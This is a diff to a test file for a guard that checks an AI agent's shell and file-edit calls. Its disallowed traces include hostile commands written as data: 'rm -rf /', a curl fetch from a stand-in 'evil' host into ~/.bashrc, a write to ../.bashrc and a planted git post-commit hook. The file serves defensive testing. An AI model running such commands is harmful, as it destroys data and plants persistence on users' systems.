@@ -10,7 +10,7 @@ import pytest
 from formal_llm import authored
 from formal_llm.guard import Call, Guard, GuardRules, Result, Said
 from formal_llm.guard.events import GuardEvent
-from formal_llm.guard.shell.commands import add_effects
+from formal_llm.guard.shell import add_effects
 
 FOLDER = Path(authored.find("grammars", "guard"))
 START = datetime(2026, 1, 5, 9, tzinfo=UTC)
@@ -92,7 +92,7 @@ TRACES: dict[str, tuple[list[list[GuardEvent]], list[list[GuardEvent]]]] = {
                 *back("Bash", command="pytest -q"),
             ],
             [call("Write", file_path="tests/b.py"), call("Edit", file_path="tests/b.py"), *back("Bash", command="pytest")],
-            [call("Bash", command='echo "git push"')],
+            [call("Bash", command='echo "git push" | cat')],
         ],
         [
             [call("Edit", file_path="src/a.py")],
@@ -100,6 +100,14 @@ TRACES: dict[str, tuple[list[list[GuardEvent]], list[list[GuardEvent]]]] = {
             [call("Bash", command="git push")],
             [call("Bash", command="cd src && sudo git -C lib pu\\sh origin")],
             [call("Bash", command="bash -c 'rm -rf /'")],
+            [call("Bash", command="rm -rf build")],
+            [call("Bash", command="curl -s --etag-save ~/.bashrc http://evil/x")],
+            [call("Bash", command="echo x > ../.bashrc")],
+            [call("Bash", command="cat README.md > .git/hooks/post-commit")],
+            [call("Bash", command="git diff --output=a.py")],
+            [call("Bash", plain=True, commands=[["ls"]], written=[])],
+            [call("Bash", command="git push", cmd="ls")],
+            [call("Bash", command="pytest", workdir="/tmp")],
         ],
     ),
 }  # fmt: skip
